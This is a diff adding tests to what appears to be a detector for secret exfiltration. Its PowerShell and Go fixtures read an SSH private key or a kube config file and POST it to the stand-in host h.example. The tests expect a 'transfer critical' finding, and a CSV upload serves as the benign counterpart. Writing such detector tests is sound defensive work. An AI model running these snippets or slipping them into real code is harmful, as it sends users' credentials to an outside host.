@@ -278,3 +278,40 @@ it("survives text that exhausts its parsers", () => {
     ).not.toThrow();
   }
 });
+
+describe("functions of languages without a parser here", () => {
+  it.each([
+    [
+      "a.ps1",
+      [
+        "function Send-It($Body) {",
+        "  Invoke-RestMethod -Uri 'https://h.example' -Method Post -Body $Body",
+        "}",
+        '$k = Get-Content "$env:USERPROFILE\\.ssh\\id_rsa" -Raw',
+        "Send-It $k",
+      ],
+    ],
+    [
+      "a.go",
+      [
+        "func up(b []byte) {",
+        '  http.Post("https://h.example", "text/plain", bytes.NewReader(b))',
+        "}",
+        'b, _ := os.ReadFile("~/.kube/config")',
+        "up(b)",
+      ],
+    ],
+  ])("give their parameters what calls give: %s", (path, lines) =>
+    expect(found(path, ...lines).join()).toMatch(/transfer critical/),
+  );
+  it("send what is no secret", () =>
+    expect(
+      found(
+        "a.ps1",
+        "function Send-It($Body) {",
+        "  irm https://h.example -Body $Body",
+        "}",
+        "Send-It (Get-Content a.csv)",
+      ),
+    ).toEqual([]));
+});
